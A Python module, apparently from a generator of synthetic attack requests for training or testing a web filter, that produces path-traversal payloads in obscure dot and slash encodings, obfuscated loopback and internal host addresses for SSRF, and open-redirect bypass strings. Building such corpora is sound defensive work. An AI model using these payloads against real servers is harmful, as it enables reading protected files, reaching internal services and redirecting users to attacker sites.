"""Traversal in escapes that do not decode, and redirects and hosts that are written to be misread."""

from __future__ import annotations

import random
from collections.abc import Callable

from weir_models.request_attack.corpus.grammars.system import FILES
from weir_models.request_attack.corpus.placing import PATHS, Request, browser, referer, word

R = random.Random

DOTS = (
    "%c0%ae",
    "%e0%80%ae",
    "%f0%80%80%ae",
    "%f8%80%80%80%ae",
    "%c0%2e",
    "%c0.",
    "0x2e",
    "%u002e",
    "%%32%65",
    "%c0%ee",
    ".",
)
SLASHES = ("%c0%af", "%e0%80%af", "%f0%80%80%af", "%fc%80%80%80%80%af", "%c1%9c", "%c0/", "%c0%2f", "%bg%qf", "%c0%9v", "%c1%8s", "0x2f", "0x5c",
    "%u2215", "%u2216", "%uefc8", "%2/", "%/", "%ff/", "%c0%5c")  # fmt: skip


def traversal(r: R) -> Request:
    """Up the tree with dots and separators that a lenient reader alone understands, in the path or in a value."""
    dot, slash = r.choice(DOTS), r.choice(SLASHES)
    target = r.choice((*FILES, f"{word(r)}/{word(r)}.yml", f".{word(r)}/config"))
    step = dot + dot + slash
    payload = step * r.randint(2, 9) + target.replace("/", r.choice((slash, "/")))
    if r.random() < 0.4:
        return Request("GET", f"{r.choice(PATHS).rstrip('/')}/{payload}", None, browser(r), referer(r))
    return Request(
        "GET", r.choice(PATHS), f"{r.choice(('file', 'page', 'view', 'doc'))}={payload}", browser(r), referer(r)
    )


def misread_host(r: R) -> str:
    """A server's own addresses in forms that a filter does not expect."""
    a = r.randint(0, 255)
    host = r.choice((f"0177.0.0.{a % 8}", f"0x7f.{a}", f"0x7f0000{a % 100:02d}", f"{2130706432 + a}", f"017700000{a % 8}01", "127.1", "0", "10.1",
        "[::ffff:127.0.0.1]", "[0:0:0:0:0:ffff:7f00:1]", "[::]", "localtest.me", f"{word(r)}.127.0.0.1.nip.io", f"{word(r)}.internal",
        "kubernetes.default.svc", "host.docker.internal", f"{word(r)}.com@127.0.0.1", "①②⑦.⓪.⓪.①"))  # fmt: skip
    return f"http://{host}{r.choice(('', f':{r.randint(80, 9999)}'))}/{r.choice(('', word(r)))}"


def misread_redirect(r: R) -> Request:
    """Where to go next, written so that a browser leaves the site and a check does not see it."""
    host = f"{word(r)}.{r.choice(('com', 'net', 'org'))}"
    target = r.choice((f"/\\{host}", f"\\/{host}", f"////{host}", f"https:{host}", f"https:/{host}", f"https://www.example.com@{host}/",
        f"//www.example.com%40{host}", f"/%09/{host}", f"https:\\\\{host}"))  # fmt: skip
    return Request(
        "GET",
        r.choice(PATHS),
        f"{r.choice(('next', 'url', 'return', 'redirect_uri', 'goto'))}={target}",
        browser(r),
        referer(r),
    )


FAMILIES: tuple[tuple[str, str, str, float, Callable[[R], str | Request]], ...] = (
    ("path_traversal", "unreadable", "fit", 1.2, traversal), ("xxe_and_ssrf", "misread_host", "fit", 0.7, misread_host), ("xxe_and_ssrf", "misread_redirect", "calibrate", 0.4, misread_redirect),
)  # fmt: skip
